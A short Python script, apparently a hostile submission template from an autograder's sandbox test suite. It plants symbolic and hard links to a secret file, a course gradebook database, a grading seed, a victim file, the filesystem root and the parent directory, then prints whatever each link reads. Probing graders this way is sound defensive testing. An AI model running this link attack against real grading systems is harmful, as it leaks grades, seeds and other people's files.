# Leaves links in its folder that lead to secrets, for the grader to follow.
import os

for place, name in enumerate(("@SECRET@", "@COURSE@/gradebook.db", "@COURSE@/.grading-seed", "@VICTIM@", "/", "..")):
    for link in (os.symlink, os.link):
        try:
            link(name, f"{link.__name__}-{place}")
            print(open(f"{link.__name__}-{place}").read())
        except OSError as error:
            print(error)
